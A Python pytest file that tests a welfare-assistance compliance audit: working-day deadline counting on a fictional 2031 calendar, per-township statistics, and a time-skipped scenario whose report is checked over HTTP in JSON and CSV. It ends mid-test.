"""The deadline-compliance audit (/audit/compliance): the counting on a small hand-counted
calendar, then a seeded set of real cases driven on the time-skipping server whose report is
checked number by number over HTTP, in JSON and CSV, then who may read it.

The calendar of every test here is a fictional 2031, published so that nothing depends on the
day the tests run: holidays Fri 03-14 and Mon 03-17, a make-up working day Sat 03-22; 2030 is
left unpublished (weekdays only). Counted from Mon 2031-03-03 (the day itself not counted),
the working days are:

    03-04 1   03-05 2   03-06 3   03-07 4   03-10 5   03-11 6   03-12 7   03-13 8
    (03-14, 03-17 holidays)   03-18 9   03-19 10  03-20 11  03-21 12  03-22 13 (Sat)
    03-24 14  03-25 15  03-26 16  03-27 17  03-28 18  03-31 19  04-01 20  04-02 21
    04-03 22  04-04 23  04-07 24  04-08 25  04-09 26  04-10 27  04-11 28  04-14 29
"""

import csv
import io
from dataclasses import fields, replace
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal

import httpx
import pytest
from sqlalchemy import event
from sqlmodel import select

from api.main import create_app
from api.routes.compliance import COLUMNS, report_clock
from api.spreadsheet import csv_bytes
from domain.calendar import SHANGHAI, WorkingCalendar, WorkingDayIndex, YearCalendar
from domain.cases import (
    Actor,
    AssistanceType,
    DecisionRecord,
    DocumentsReceipt,
    DocumentsRequest,
    Intervention,
    InterventionRecord,
    ReviewRecord,
    Role,
    Stage,
    SurveyRecord,
)
from domain.compliance import (
    ApplicationCompliance,
    ApplicationFacts,
    EmergencyCompliance,
    EmergencyFacts,
    Period,
    ReserveFacts,
    application_compliance,
    emergency_compliance,
    percentile,
    reserve_compliance,
    working_days_to_decision,
)
from domain.emergency import ApprovalRecord
from domain.policy import Policy
from domain.townships import DISTRICT_CODE as DISTRICT
from services.compliance import build_report
from store import reserve
from store.calendar import publish_year
from store.compliance import application_facts, emergency_facts, reserve_facts
from store.db import get_engine, session_scope
from store.tables import CaseRecord, EmergencyRecord, TownshipRow
from tests.helpers.actors import APPROVER, ASSISTANT, COORDINATOR, OFFICER
from tests.helpers.actors import headers as bearer
from tests.helpers.people import id_number
from tests.helpers.servers import serve
from tests.helpers.stack import RING
from tests.helpers.workflows import (
    TEKUN_FACTS,
    request,
    start_case,
    survey,
    until,
    wait_for_stage,
)
from worker import create_worker
from workflows.application import ApplicationWorkflow
from workflows.emergency import EmergencyWorkflow

D = date
A, B = "370305001", "370305002"
NAMES = {A: "闻韶街道", B: "雪宫街道"}
YEAR_2031 = YearCalendar(
    2031, holidays=frozenset({D(2031, 3, 14), D(2031, 3, 17)}), workdays=frozenset({D(2031, 3, 22)})
)
CAL = WorkingCalendar.of([YEAR_2031])


def at(day: date, hour: int = 10, minute: int = 0) -> datetime:
    return datetime(day.year, day.month, day.day, hour, minute, tzinfo=SHANGHAI)


MONDAY = D(2031, 3, 3)
PERIOD = Period(D(2031, 3, 1), D(2031, 4, 30), now=at(D(2031, 4, 15), 12))
"""As of now (Tue 04-15 noon): the end of the period is still to come."""


# ---- working days ---------------------------------------------------------------------------


def test_working_days_to_a_decision_agree_with_the_workflows_deadline():
    index = WorkingDayIndex.over(CAL, D(2031, 3, 3), D(2031, 4, 30))
    # the holidays count nothing
    assert (
        index.between(D(2031, 3, 3), D(2031, 3, 13))
        == index.between(D(2031, 3, 3), D(2031, 3, 17))
        == 8
    )

    def days(decided: date) -> int:
        return working_days_to_decision(index, D(2031, 3, 3), decided)

    assert days(D(2031, 3, 3)) == 0
    assert days(D(2031, 3, 10)) == 5
    assert days(D(2031, 3, 13)) == 8
    # A decision on a holiday or a weekend counts as the next working day's (03-18, the 9th)
    assert days(D(2031, 3, 14)) == days(D(2031, 3, 16)) == days(D(2031, 3, 18)) == 9
    assert days(D(2031, 3, 22)) == 13  # the make-up Saturday
    assert days(D(2031, 3, 29)) == days(D(2031, 3, 31)) == 19
    # On time exactly when the decision is on or before the workflow's 20-working-day due date
    due, provisional = CAL.add_working_days(D(2031, 3, 3), 20)
    assert (due, provisional) == (D(2031, 4, 1), False)
    assert days(due) == 20 and days(due + timedelta(days=1)) == 21


def test_percentiles_interpolate_between_ranks():
    assert percentile([], 0.5) is None
    assert percentile([7], 0.9) == 7
    assert percentile([4, 1, 3, 2], 0.5) == 2.5
    assert percentile([1, 2, 3, 4], 0.9) == 3.7  # rank 2.7: 3 + 0.7 × (4 − 3)


# ---- applications ---------------------------------------------------------------------------


def app(
    *,
    decided: date | None = None,
    stage: str = "approved",
    township: str = A,
    assistance_type: str = "dibao",
    accepted: date = MONDAY,
    **overrides,
) -> ApplicationFacts:
    closed = stage not in ("survey", "review", "notice", "decision", "awaiting_documents")
    values = {
        "township": township,
        "assistance_type": assistance_type,
        "stage": stage,
        "accepted_on": accepted,
        "decided_on": decided,
        "closed_on": decided if closed else None,
        "paused_since_on": None,
        "survey_due": D(2031, 3, 6),
        "visited_on": None,
        "decision_due": D(2031, 4, 1),
        "refusal_notice_due": None,
        "refusal_notified_on": None,
        "paused_working_days": 0,
        "extended_working_days": 0,
        "longest_stage": "survey",
        "provisional": False,
    }
    return ApplicationFacts(**(values | overrides))


APPLICATIONS = [
    # 闻韶街道, 低保
    app(decided=D(2031, 3, 10), visited_on=D(2031, 3, 3)),  # 5: on time
    app(decided=D(2031, 4, 3), visited_on=D(2031, 3, 24)),  # 22: breach (survey), surveyed late
    app(decided=D(2031, 4, 8), visited_on=D(2031, 3, 3), paused_working_days=11),  # 25, 14 net
    app(  # refused at 7, written refusal sent in time
        decided=D(2031, 3, 10),
        stage="refused",
        visited_on=D(2031, 3, 3),
        refusal_notice_due=D(2031, 3, 13),
        refusal_notified_on=D(2031, 3, 10),
    ),
    app(decided=D(2031, 3, 12), stage="refused", refusal_notice_due=D(2031, 3, 19)),  # 7; late
    app(  # accepted 03-24 (14th): decided 04-14 (29th) is 15; its refusal not yet due
        accepted=D(2031, 3, 24),
        decided=D(2031, 4, 14),
        stage="refused",
        visited_on=D(2031, 3, 25),
        survey_due=D(2031, 3, 27),
        decision_due=D(2031, 4, 22),
        refusal_notice_due=D(2031, 4, 17),
    ),
    app(decided=D(2031, 4, 10), extended_working_days=5, longest_stage="decision"),  # 27: breach
    app(stage="survey"),  # open, past its due date 04-01: late
    app(  # open, waiting for documents since 03-20: its clock stands still, never late
        stage="awaiting_documents", paused_since_on=D(2031, 3, 20)
    ),
    app(stage="withdrawn", closed_on=D(2031, 3, 20)),  # neither decided nor open
    app(decided=D(2031, 2, 27), visited_on=D(2031, 2, 10)),  # decided before the period
    # 闻韶街道, 特困: extended, decided at 11: extended, never on time
    app(
        assistance_type="tekun",
        decided=D(2031, 3, 20),
        visited_on=D(2031, 3, 3),
        extended_working_days=5,
    ),
    # 雪宫街道, 低保: accepted in 2030 (unpublished: weekdays only): 1 + 23 + 20 + 5 + 1 = 50
    app(township=B, accepted=D(2030, 12, 30), decided=D(2031, 3, 10), longest_stage="review"),
]


def stages(**counts: int) -> dict[str, int]:
    every = ("survey", "review", "notice", "decision", "awaiting_documents", "unknown")
    return {stage: counts.get(stage, 0) for stage in every}


def test_applications_are_counted_per_township_and_type_with_totals():
    section, calendar = application_compliance(
        APPLICATIONS, period=PERIOD, calendar=CAL, decision_working_days=20, names=NAMES
    )
    rows = {(r.township, r.assistance_type): r for r in section.rows}
    assert list(rows) == [(A, "dibao"), (A, "tekun"), (B, "dibao")]

    dibao = rows[(A, "dibao")]
    assert dibao.township_name == "闻韶街道"
    assert (dibao.decided, dibao.approved, dibao.refused) == (7, 4, 3)
    # elapsed 5, 22, 25, 5, 7, 15, 27 (extended): on time 5, 5, 7, 15
    assert (dibao.on_time, dibao.on_time_share) == (4, 0.5714)
    # less the pauses 5, 22, 14, 5, 7, 15, 27: the paused case is on time too
    assert (dibao.on_time_excluding_pauses, dibao.on_time_share_excluding_pauses) == (5, 0.7143)
    assert (dibao.extended, dibao.paused, dibao.paused_working_days) == (1, 1, 11)
    assert dibao.extended_working_days == 5
    # [5, 5, 7, 15, 22, 25, 27]: median 15; p90 at rank 5.4: 25 + 0.4 × 2
    assert (dibao.working_days_median, dibao.working_days_p90) == (15, 25.8)
    # [5, 5, 7, 14, 15, 22, 27]: median 14; p90 22 + 0.4 × 5
    assert (
        dibao.working_days_excluding_pauses_median,
        dibao.working_days_excluding_pauses_p90,
    ) == (14, 24.0)
    assert dibao.breaches == 2
    assert dibao.breaches_by_longest_stage == stages(survey=1, decision=1)
    assert (dibao.surveys, dibao.surveys_on_time, dibao.surveys_on_time_share) == (5, 4, 0.8)
    assert (dibao.refusal_notices, dibao.refusal_notices_on_time) == (2, 1)
    assert (dibao.refusal_notices_late, dibao.refusal_notices_on_time_share) == (1, 0.5)
    assert (dibao.open, dibao.open_late) == (2, 1)

    tekun = rows[(A, "tekun")]
    assert (tekun.decided, tekun.extended, tekun.on_time, tekun.on_time_excluding_pauses) == (
        1,
        1,
        0,
        0,
    )
    assert (tekun.on_time_share, tekun.breaches, tekun.working_days_median) == (0.0, 0, 11)
    assert tekun.extended_working_days == 5
    assert (tekun.surveys, tekun.surveys_on_time) == (1, 1)

    far = rows[(B, "dibao")]
    assert (far.decided, far.working_days_median, far.breaches) == (1, 50, 1)
    assert far.breaches_by_longest_stage == stages(review=1)
    assert (far.surveys, far.surveys_on_time_share, far.open) == (0, None, 0)

    total = section.total
    assert (total.township, total.township_name, total.assistance_type) == (None, None, None)
    assert (total.decided, total.approved, total.refused) == (9, 6, 3)
    assert (total.on_time, total.on_time_share) == (4, 0.4444)
    assert (total.on_time_excluding_pauses, total.on_time_share_excluding_pauses) == (5, 0.5556)
    assert (total.extended, total.paused, total.paused_working_days) == (2, 1, 11)
    assert total.extended_working_days == 10
    # [5, 5, 7, 11, 15, 22, 25, 27, 50]: median 15; p90 at rank 7.2: 27 + 0.2 × 23
    assert (total.working_days_median, total.working_days_p90) == (15, 31.6)
    assert (
        total.working_days_excluding_pauses_median,
        total.working_days_excluding_pauses_p90,
    ) == (14, 31.6)
    assert total.breaches == 3
    assert total.breaches_by_longest_stage == stages(survey=1, review=1, decision=1)
    assert (total.surveys, total.surveys_on_time, total.refusal_notices) == (6, 5, 2)
    assert (total.open, total.open_late) == (2, 1)
    # The case accepted in 2030 was counted on weekdays only
    assert (calendar.provisional, calendar.unpublished_years) == (True, [2030])


def test_a_report_on_published_years_alone_is_not_provisional_unless_a_case_says_so():
    one = [app(decided=D(2031, 3, 10))]
    _, calendar = application_compliance(
        one, period=PERIOD, calendar=CAL, decision_working_days=20, names=NAMES
    )
    assert (calendar.provisional, calendar.unpublished_years) == (False, [])
    _, calendar = application_compliance(
        [one[0]._replace(provisional=True)],
        period=PERIOD,
        calendar=CAL,
        decision_working_days=20,
        names=NAMES,
    )
    assert (calendar.provisional, calendar.unpublished_years) == (True, [])


# ---- emergencies ----------------------------------------------------------------------------


def emergency(
    requested: datetime, *, cause: str = "fire", stage: str = "paid", **overrides
) -> EmergencyFacts:
    values = {
        "township": A,
        "cause": cause,
        "stage": stage,
        "requested_at": requested,
        "pay_by": requested + timedelta(hours=24),
        "paid_at": None,
        "follow_up_due": None,
        "reviewed_on": None,
        "closed_on": None,
    }
    return EmergencyFacts(**(values | overrides))


EMERGENCIES = [
    emergency(  # paid in half an hour, followed up in time, closed
        at(D(2031, 3, 3), 9),
        stage="closed",
        paid_at=at(D(2031, 3, 3), 9, 30),
        follow_up_due=D(2031, 3, 19),
        reviewed_on=D(2031, 3, 10),
        closed_on=D(2031, 3, 10),
    ),
    emergency(  # paid after 25 hours; never followed up: open and late
        at(D(2031, 3, 3), 9), paid_at=at(D(2031, 3, 4), 10), follow_up_due=D(2031, 3, 20)
    ),
    emergency(at(D(2031, 3, 5)), stage="rejected", closed_on=D(2031, 3, 5)),
    emergency(  # paid in 12 hours, followed up two days late (due the make-up Saturday)
        at(D(2031, 3, 6), 9),
        stage="closed",
        paid_at=at(D(2031, 3, 6), 21),
        follow_up_due=D(2031, 3, 22),
        reviewed_on=D(2031, 3, 24),
        closed_on=D(2031, 3, 25),
    ),
    emergency(  # requested before the period, still open, its follow-up done: not late
        at(D(2031, 2, 20)),
        stage="follow_up",
        paid_at=at(D(2031, 2, 20), 12),
        follow_up_due=D(2031, 3, 6),
        reviewed_on=D(2031, 2, 28),
    ),
    emergency(at(D(2031, 4, 1), 8), cause="accident", stage="awaiting_approval"),  # unpaid, late
    emergency(at(D(2031, 4, 15), 10), cause="accident", stage="awaiting_approval"),  # 2 h old
]


def test_emergencies_are_counted_per_township_and_cause_with_totals():
    section = emergency_compliance(EMERGENCIES, period=PERIOD, names=NAMES)
    rows = {(r.township, r.cause): r for r in section.rows}
    assert list(rows) == [(A, "accident"), (A, "fire")]

    fire = rows[(A, "fire")]
    assert (fire.requested, fire.paid, fire.paid_on_time, fire.paid_late) == (4, 3, 2, 1)
    assert (fire.unpaid_late, fire.awaiting_payment, fire.rejected, fire.cancelled) == (0, 0, 1, 0)
    assert fire.paid_on_time_share == 0.6667
    # hours 0.5, 25, 12: median 12; p90 at rank 1.8: 12 + 0.8 × 13
    assert (fire.hours_to_payment_median, fire.hours_to_payment_p90) == (12, 22.4)
    assert (fire.follow_ups_due, fire.follow_ups_on_time, fire.follow_ups_late) == (3, 1, 2)
    assert fire.follow_ups_on_time_share == 0.3333
    assert (fire.open, fire.open_late) == (2, 1)

    accident = rows[(A, "accident")]
    assert (accident.requested, accident.paid, accident.unpaid_late) == (2, 0, 1)
    assert (accident.awaiting_payment, accident.paid_on_time_share) == (1, 0.0)
    assert (accident.hours_to_payment_median, accident.follow_ups_on_time_share) == (None, None)
    assert (accident.open, accident.open_late) == (2, 1)

    total = section.total
    assert (total.requested, total.paid, total.paid_on_time, total.paid_late) == (6, 3, 2, 1)
    assert (total.unpaid_late, total.awaiting_payment, total.rejected) == (1, 1, 1)
    assert total.paid_on_time_share == 0.5
    assert (total.hours_to_payment_median, total.hours_to_payment_p90) == (12, 22.4)
    assert (total.follow_ups_due, total.follow_ups_on_time, total.follow_ups_late) == (3, 1, 2)
    assert (total.open, total.open_late) == (4, 2)


def test_open_and_late_are_counted_at_the_end_of_a_past_period():
    march = Period(D(2031, 3, 1), D(2031, 3, 31), now=at(D(2031, 4, 15), 12))
    assert march.as_of == at(D(2031, 4, 1), 0)
    cases = [
        app(decided=D(2031, 4, 3), decision_due=D(2031, 3, 28)),  # open on 03-31, late
        app(accepted=D(2031, 3, 25), stage="survey", decision_due=D(2031, 4, 22)),  # not late
        app(accepted=D(2031, 4, 2), stage="survey"),  # accepted after the period
    ]
    section, _ = application_compliance(
        cases, period=march, calendar=CAL, decision_working_days=20, names=NAMES
    )
    assert (section.total.decided, section.total.open, section.total.open_late) == (0, 2, 1)

    emergencies = [
        emergency(at(D(2031, 3, 31), 20), paid_at=at(D(2031, 4, 1), 10)),  # in time; open
        emergency(at(D(2031, 3, 30), 8), paid_at=at(D(2031, 4, 2), 10)),  # unpaid at the end
    ]
    total = emergency_compliance(emergencies, period=march, names=NAMES).total
    assert (total.requested, total.paid_on_time, total.paid_late) == (2, 1, 1)
    assert (total.open, total.open_late) == (2, 1)


# ---- reserves -------------------------------------------------------------------------------

MINIMUM = 5_000_000  # ¥50,000 in fen


def test_the_days_a_reserve_was_below_its_minimum_at_any_moment():
    dips = ReserveFacts(
        A,
        MINIMUM,
        opening_fen=MINIMUM,  # at the minimum is not below it
        days=[  # (day, lowest, closing)
            (D(2031, 3, 5), 4_800_000, 4_800_000),  # a payment takes it below
            (D(2031, 3, 7), 4_600_000, 5_300_000),  # another, then a top-up two days later
            (D(2031, 3, 20), 4_900_000, 5_100_000),  # below again, and back the same day
            (D(2031, 3, 25), 5_000_000, 5_000_000),  # down to the minimum: not below it
        ],
    )
    report = reserve_compliance(dips, period=PERIOD, names=NAMES)
    assert report.dates_below_minimum == [
        D(2031, 3, 5),
        D(2031, 3, 6),
        D(2031, 3, 7),
        D(2031, 3, 20),
    ]
    assert report.days_below_minimum == 4
    assert (str(report.minimum), str(report.opening_balance), str(report.lowest_balance)) == (
        "50000.00",
        "50000.00",
        "46000.00",
    )

    # Below when the period began and never topped up: every day from 03-01 to today (04-15)
    short = ReserveFacts(B, MINIMUM, opening_fen=4_000_000, days=[])
    assert reserve_compliance(short, period=PERIOD, names=NAMES).days_below_minimum == 31 + 15

    # A reserve opened within the period is counted from its first entry
    new = ReserveFacts(B, MINIMUM, opening_fen=None, days=[(D(2031, 3, 10), MINIMUM, MINIMUM)])
    opened = reserve_compliance(new, period=PERIOD, names=NAMES)
    assert (opened.days_below_minimum, opened.opening_balance, str(opened.lowest_balance)) == (
        0,
        None,
        "50000.00",
    )


# ---- a seeded, time-skipped set of real cases, over HTTP ------------------------------------

T0 = at(D(2031, 3, 3), 9)
"""Every case of the scenario is accepted or requested at this moment."""
SUPERVISOR = Actor(
    user_id="u-supervisor", name="钱督办", role=Role.supervisor, jurisdiction=DISTRICT
)
AUDITOR = Actor(user_id="u-auditor", name="审计员", role=Role.auditor, jurisdiction=DISTRICT)
QUICK_NOTICE = Policy(notice_calendar_days=0)  # the public notice is not what is measured here


@pytest.fixture
async def running(time_env, settings):
    """A worker on the time-skipping server, the 2031 calendar published in the database, and
    the clock moved to T0. Township A's reserve is topped up first, so its two payments (written
    at the time of the machine, not of the workflows) never take it below its minimum."""
    with session_scope(settings.database_url, writes=True) as session:
        publish_year(session, calendar=YEAR_2031, published_by="test", at=datetime.now(UTC))
        reserve.top_up(
            session,
            township=A,
            amount=Decimal("10000"),
            key="test:top-up:A",
            note="before the scenario",
            by="test",
            at=datetime.now(UTC),
        )
    worker, external = create_worker(time_env.client, settings)
    async with worker:
        await jump_to(time_env, T0)
        yield time_env, settings
    await external.close()


async def jump_to(env, moment: datetime) -> None:
    now = await env.get_current_time()
    assert moment > now, (moment, now)
    await env.sleep(moment - now)


async def decide(handle, outcome: str, **care) -> None:
    """``care``: a 特困 approval's care form (and self-care, if not the survey's)."""
    await handle.execute_update(
        ApplicationWorkflow.record_decision,
        DecisionRecord(actor=OFFICER, outcome=outcome, reasons="审核确认", **care),
    )


async def review(handle, env, recommendation: str = "approve", *, then: Stage) -> None:
    await wait_for_stage(handle, Stage.review, env)
    await handle.execute_update(
        ApplicationWorkflow.record_review,
        ReviewRecord(actor=ASSISTANT, recommendation=recommendation, reasons="初审意见"),
    )
    await wait_for_stage(handle, then, env)


def below_minimum_in_b(database_url: str) -> None:
    """Township B pays ¥6,000 on 03-26 (¥44,000 left, under the ¥50,000 minimum) and is
    topped up by ¥10,000 on 03-28: below on 03-26, 03-27 and 03-28."""
    with session_scope(database_url, writes=True) as session:
        hold = "test:hold:B"
        reserve.hold(
            session,
            township=B,
            case_no="E-B",
            amount=Decimal(6000),
            key=hold,
            at=at(D(2031, 3, 26)),
        )
        reserve.settle(
            session,
            hold_key=hold,
            key="test:settle:B",
            at=at(D(2031, 3, 26), 10, 5),
            members=[id_number()],
            cause="fire",
            ring=RING,
        )
        reserve.top_up(
            session,
            township=B,
            amount=Decimal(10000),
            key="test:top-up:B",
            note="补充储备金",
            by="u-officer",
            at=at(D(2031, 3, 28), 15),
        )


async def test_a_seeded_set_of_cases_is_reported_number_by_number_in_json_and_csv(running):
    env, settings = running
    b_place = {"township": B, "village": "370305002001"}
    on_time = await start_case(env, settings, policy=QUICK_NOTICE)
    late = await start_case(env, settings, policy=QUICK_NOTICE)
    paused = await start_case(env, settings, policy=QUICK_NOTICE)
    extended = await start_case(
        env, settings, policy=QUICK_NOTICE, assistance_type=AssistanceType.tekun
    )
    refused = await start_case(env, settings, policy=QUICK_NOTICE)
    still_open = await start_case(env, settings, policy=QUICK_NOTICE)
    in_b = await start_case(env, settings, policy=QUICK_NOTICE, **b_place)
    paid_at_once = await request(env, settings)
    paid_late = await request(env, settings)

    # Mon 03-03, the day of acceptance
    for handle in (on_time, paused, in_b):
        await survey(handle, env)
    await survey(extended, env, **TEKUN_FACTS, self_care="full")
    await survey(refused, env, income="5000")
    await paid_at_once.execute_update(
        EmergencyWorkflow.approve, ApprovalRecord(actor=APPROVER, amount=Decimal("2000"))
    )
    await until(paid_at_once, env, lambda v: v.paid_at is not None)
    await review(on_time, env, then=Stage.decision)
    await review(extended, env, then=Stage.decision)
    await review(in_b, env, then=Stage.decision)
    await review(refused, env, "refuse", then=Stage.decision)
    await wait_for_stage(paused, Stage.review, env)
    await paused.execute_update(
        ApplicationWorkflow.request_documents,
        DocumentsRequest(actor=ASSISTANT, documents=["病历"], note="补正"),
    )
    await extended.execute_update(
        ApplicationWorkflow.intervene,
        InterventionRecord(
            actor=SUPERVISOR,
            action=Intervention.extend_deadline,
            reason="需异地核查",
            working_days=5,
        ),
    )

    # Tue 03-04, 25 hours after the request: the second emergency is approved, and paid late
    await jump_to(env, at(D(2031, 3, 4), 10, 5))
    await paid_late.execute_update(
        EmergencyWorkflow.approve, ApprovalRecord(actor=APPROVER, amount=Decimal("2000"))
    )
    await until(paid_late, env, lambda v: v.paid_at is not None)

    # Mon 03-10 (5th working day): a decision in time, a refusal sent in writing at once, the
    # first emergency followed up (补办) and confirmed
    await jump_to(env, at(D(2031, 3, 10)))
    await decide(on_time, "approve")
    await decide(refused, "refuse")
    # Polled, not awaited: awaiting a result lets the server skip time to the next timer.
    await until(
        refused, env, lambda v: v.refusal_notified_at is not None, query=ApplicationWorkflow.current
    )
    today = D(2031, 3, 10)
    await paid_at_once.execute_update(
        EmergencyWorkflow.record_survey,
        SurveyRecord(
            actor=COORDINATOR,
            investigators=["李协理", "周干事"],
            visited_on=today,
            findings="房屋烧毁属实",
            assessed_monthly_income=Decimal(0),
        ),
    )
    await paid_at_once.execute_update(
        EmergencyWorkflow.record_review,
        ReviewRecord(actor=ASSISTANT, recommendation="approve", reasons="符合条件"),
    )
    await paid_at_once.execute_update(
        EmergencyWorkflow.confirm,
        DecisionRecord(actor=OFFICER, outcome="approve", reasons="确认"),
    )

    # Thu 03-20 (11th): the documents are in (11 working days paused); the extended case is
    # decided at 11, inside its 20 working days, and still counts as extended, not on time
    await jump_to(env, at(D(2031, 3, 20)))
    await paused.execute_update(
        ApplicationWorkflow.receive_documents, DocumentsReceipt(actor=ASSISTANT, note="已补齐")
    )
    await review(paused, env, then=Stage.decision)
    await decide(extended, "approve", care_form="dispersed")

    # Mon 03-24 (14th): the late case is surveyed at last (due 03-06)
    await jump_to(env, at(D(2031, 3, 24)))
    await survey(late, env)
    await review(late, env, then=Stage.decision)

    # Thu 04-03 (22nd): decided late, the survey having held it longest
    await jump_to(env, at(D(2031, 4, 3)))
    await decide(late, "approve")

    # Tue 04-08 (25th): the paused case (14 without its pause), and township B's case, late,
    # the district's decision having held it longest
    await jump_to(env, at(D(2031, 4, 8)))
    await decide(paused, "approve")
    await decide(in_b, "approve")
    below_minimum_in_b(settings.database_url)

    now = at(D(2031, 4, 10), 12)
    await jump_to(env, now)
    for handle in (on_time, late, paused, extended, refused, in_b):
        assert (await handle.query(ApplicationWorkflow.current)).decided_at is not None
    assert (await still_open.query(ApplicationWorkflow.current)).decision_overdue

    with session_scope(settings.database_url) as session:
        rows = {r.case_no: r for r in session.exec(select(CaseRecord))}
        assert rows[paused.id.removeprefix("application-")].paused_working_days == 11
        assert rows[extended.id.removeprefix("application-")].extended_working_days == 5
        assert rows[late.id.removeprefix("application-")].longest_stage == "survey"
        assert rows[in_b.id.removeprefix("application-")].longest_stage == "decision"
        hours = sorted(
            (r.paid_at - r.requested_at).total_seconds() / 3600
            for r in session.exec(select(EmergencyRecord))
        )
    assert hours[0] < 1 and 25 < hours[1] < 25.2

    app = create_app(settings, temporal=env.client)
    app.dependency_overrides[report_clock] = lambda: now
    with serve(app) as url:
        async with httpx.AsyncClient(base_url=url, headers=bearer(settings, AUDITOR)) as http:
            answer = await http.get(
                "/audit/compliance", params={"from": "2031-03-01", "to": "2031-04-30"}
            )
            assert answer.status_code == 200, answer.text
            report = answer.json()
            as_csv = await http.get(
                "/audit/compliance",
                params={"from": "2031-03-01", "to": "2031-04-30"},
                headers={"Accept": "text/csv"},
            )
            only_b = (
                await http.get(
                    "/audit/compliance",
                    params={"from": "2031-03-01", "to": "2031-04-30", "township": B},
                )
            ).json()

    assert (report["period_start"], report["period_end"]) == ("2031-03-01", "2031-04-30")
    assert datetime.fromisoformat(report["as_of"]) == now
    assert report["decision_working_days"] == 20
    assert report["calendar"] == {"provisional": False, "unpublished_years": []}

    applications = report["applications"]
    a_dibao = application_row(
        A, "dibao",
        decided=4, approved=3, refused=1,
        on_time=2, on_time_share=0.5,  # 5 and 5 of 5, 22, 25, 5
        on_time_excluding_pauses=3, on_time_share_excluding_pauses=0.75,  # and 25 − 11 = 14
        paused=1, paused_working_days=11,
        # [5, 5, 22, 25]: median 13.5, p90 at rank 2.7: 22 + 0.7 × 3
        working_days_median=13.5, working_days_p90=24.1,
        # [5, 5, 14, 22]: median 9.5, p90 14 + 0.7 × 8
        working_days_excluding_pauses_median=9.5, working_days_excluding_pauses_p90=19.6,
        breaches=1, breaches_by_longest_stage=stages(survey=1),
        surveys=4, surveys_on_time=3, surveys_on_time_share=0.75,  # the late one on 03-24
        refusal_notices=1, refusal_notices_on_time=1, refusal_notices_on_time_share=1.0,
        open=1, open_late=1,  # the case never surveyed, due 04-01
        # by the strict date: 5, 5 within it; 22 and 25 (the paused one too) beyond it
        strict_on_time=2, strict_on_time_share=0.5, strict_breaches=2,
        open_past_strict_date=1,
    )  # fmt: skip
    a_tekun = application_row(
        A, "tekun",
        decided=1, approved=1, on_time_share=0.0, on_time_share_excluding_pauses=0.0,
        extended=1, extended_working_days=5, working_days_median=11, working_days_p90=11,
        working_days_excluding_pauses_median=11, working_days_excluding_pauses_p90=11,
        surveys=1, surveys_on_time=1, surveys_on_time_share=1.0,
        strict_on_time=1, strict_on_time_share=1.0,  # extended, yet within the strict date
    )  # fmt: skip
    b_dibao = application_row(
        B, "dibao",
        decided=1, approved=1, on_time_share=0.0, on_time_share_excluding_pauses=0.0,
        working_days_median=25, working_days_p90=25,
        working_days_excluding_pauses_median=25, working_days_excluding_pauses_p90=25,
        breaches=1, breaches_by_longest_stage=stages(decision=1),
        surveys=1, surveys_on_time=1, surveys_on_time_share=1.0,
        strict_on_time_share=0.0, strict_breaches=1,
    )  # fmt: skip
    assert applications["rows"] == [a_dibao, a_tekun, b_dibao]
    assert applications["total"] == application_row(
        None, None,
        decided=6, approved=5, refused=1,
        on_time=2, on_time_share=0.3333,
        on_time_excluding_pauses=3, on_time_share_excluding_pauses=0.5,
        extended=1, extended_working_days=5, paused=1, paused_working_days=11,
        # [5, 5, 11, 22, 25, 25]: median 16.5, p90 at rank 4.5: 25
        working_days_median=16.5, working_days_p90=25.0,
        # [5, 5, 11, 14, 22, 25]: median 12.5, p90 22 + 0.5 × 3
        working_days_excluding_pauses_median=12.5, working_days_excluding_pauses_p90=23.5,
        breaches=2, breaches_by_longest_stage=stages(survey=1, decision=1),
        surveys=6, surveys_on_time=5, surveys_on_time_share=0.8333,
        refusal_notices=1, refusal_notices_on_time=1, refusal_notices_on_time_share=1.0,
        open=1, open_late=1,
        strict_on_time=3, strict_on_time_share=0.5, strict_breaches=3, open_past_strict_date=1,
    )  # fmt: skip

    fire = emergency_row(
        A, "fire",
        requested=2, paid=2, paid_on_time=1, paid_late=1, paid_on_time_share=0.5,
        hours_to_payment_median=round((hours[0] + hours[1]) / 2, 2),
        hours_to_payment_p90=round(hours[0] + 0.9 * (hours[1] - hours[0]), 2),
        # the first reviewed on 03-10 (due 03-19); the second never (due 03-20)
        follow_ups_due=2, follow_ups_on_time=1, follow_ups_late=1, follow_ups_on_time_share=0.5,
        open=1, open_late=1,
    )  # fmt: skip
    assert report["emergencies"] == {"rows": [fire], "total": fire | TOTAL | {"cause": None}}

    reserves = {r["township"]: r for r in report["reserves"]}
    assert len(reserves) == 12  # every township of the district
    assert reserves[B] == {
        "township": B,
        "township_name": "雪宫街道",
        "minimum": "50000.00",
        "opening_balance": "50000.00",
        "lowest_balance": "44000.00",
        "days_below_minimum": 3,
        "dates_below_minimum": ["2031-03-26", "2031-03-27", "2031-03-28"],
    }
    assert (reserves[A]["days_below_minimum"], reserves[A]["lowest_balance"]) == (0, "56000.00")
    assert {r["days_below_minimum"] for code, r in reserves.items() if code != B} == {0}

    # The CSV: the same numbers, one row per township and type, then the totals
    assert as_csv.status_code == 200
    assert as_csv.headers["content-type"] == "text/csv; charset=utf-8"
    assert as_csv.content.startswith(b"\xef\xbb\xbf")
    table = list(csv.DictReader(io.StringIO(as_csv.content.decode("utf-8-sig"))))
    assert table[0].keys() == {label for _, label in COLUMNS}
    records = [
        (r["record [类别]"], r["township [镇街代码]"], r["type [救助类型/事由]"]) for r in table
    ]
    assert records[:6] == [
        ("application", A, "dibao"),
        ("application", A, "tekun"),
        ("application", B, "dibao"),
        ("application", "total", ""),
        ("emergency", A, "fire"),
        ("emergency", "total", ""),
    ]
    assert [r[1] for r in records[6:] if r[0] == "reserve"] == sorted(reserves)
    records = [r for r in records if r[0] != "sweep"]  # every township's, counted last
    assert records[-2] == ("review", "total", "")  # no household reviewed in this period
    assert records[-1] == ("referral", "total", "")  # nor any family referred
    # The 特困 household of A, approved in dispersed care with full self-care: no one of A
    # needs care, so A has no share and neither meets nor misses the target.
    care_lines = [line for line in table if line["record [类别]"] == "centralised_care"]
    assert [line["township [镇街代码]"] for line in care_lines] == [A, "total"]
    assert care_lines[0]["meets_target [达标]"] == ""
    assert care_lines[0]["tekun_recipients [特困供养人员]"] == "1"
    care_a = {
        "township": A, "township_name": NAMES[A], "recipients": 1, "needing_care": 0,
        "centralised": 0, "centralised_share": None, "target": 0.6, "meets_target": None,
        "unassessed": 0,
    }  # fmt: skip
    assert report["centralised_care"] == {"rows": [care_a], "total": care_a | TOTAL}
    answered = [*applications["rows"], applications["total"]]
